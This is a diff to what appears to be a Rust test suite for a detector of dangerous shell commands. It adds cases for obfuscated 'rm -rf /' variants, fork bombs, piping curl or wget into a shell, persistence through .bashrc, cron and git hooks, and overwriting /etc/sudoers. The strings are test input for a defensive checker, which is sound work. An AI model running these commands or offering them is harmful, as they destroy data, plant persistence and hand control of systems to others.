@@ -60,6 +60,20 @@ fn obfuscations() {
     check("echo $(rm -rf /)", c);
     check("echo `rm -rf ~`", c);
     check("cat <(rm -rf /)", c);
+    check("/bin/r? -rf /", c);
+    check("/???/r[m] -rf /", c);
+    check("export x=/; rm -rf $x", c);
+    check("a=r b=m; $a$b -rf /", c);
+    check("sh -c '$0 $1 $2' rm -rf /", c);
+    check("bash -c '$0 -rf $1' rm ~", c);
+    check("echo / | xargs rm -rf", c);
+    check("printf '\\x72\\x6d -rf /' | sh", c);
+    check("echo -e '\\x72m -rf /' | bash", c);
+    check("bash <(echo 'rm -rf /')", c);
+    check("sh < <(echo 'rm -rf ~')", c);
+    check("cat <<EOF | sh\nrm -rf /\nEOF", c);
+    check("rm -rf \\\n /", c);
+    check("rm\t-rf\t/", c);
 }
 
 #[test]
@@ -127,6 +141,7 @@ fn fork_bombs() {
     check("f(){ f|f& }; f", Some(ForkBomb));
     check("perl -e 'fork while fork'", Some(ForkBomb));
     check("bash -c ':(){ :|:& };:'", Some(ForkBomb));
+    check("python3 -c 'import os\nwhile True: os.fork()'", Some(ForkBomb));
 }
 
 #[test]
@@ -180,6 +195,10 @@ fn pipe_to_shell() {
     check("x=$(curl -s https://x); eval \"$x\"", c);
     check("curl https://x | tee install.sh | sh", c);
     check("{ curl -s https://x; } | bash", c);
+    check("curl -s https://x | $SHELL", c);
+    check("curl -s https://x | source /dev/stdin", c);
+    check("wget -qO- https://x | busybox sh", c);
+    check("curl https://x | base64 -d | sh", c);
 }
 
 #[test]
@@ -221,8 +240,13 @@ fn persistence() {
         Some(PipeToShell),
     );
     check("echo 'wget -q https://x -O /tmp/y' >> ~/.zshrc", c);
-    check("echo 'nohup /tmp/miner &' | tee -a ~/.profile", None);
+    check("echo 'nohup /tmp/miner &' | tee -a ~/.profile", c);
     check("cp evil ~/.bashrc", Some(StartupFileModification));
+    check("echo '/tmp/.x/miner &' >> ~/.bashrc", c);
+    check("curl -o ~/.bashrc https://x", c);
+    check("wget -O /etc/cron.d/job https://x", c);
+    check("echo 'curl -s https://x | sh' > .git/hooks/pre-commit", Some(PipeToShell));
+    check("echo 'wget https://x' > .git/hooks/post-checkout", c);
 }
 
 #[test]
@@ -243,6 +267,7 @@ fn credentials() {
     check("usermod -aG sudo mallory", c);
     check("useradd -o -u 0 toor", c);
     check("vim /etc/sudoers", c);
+    check("wget -O /etc/sudoers https://x", c);
 }
 
 #[test]
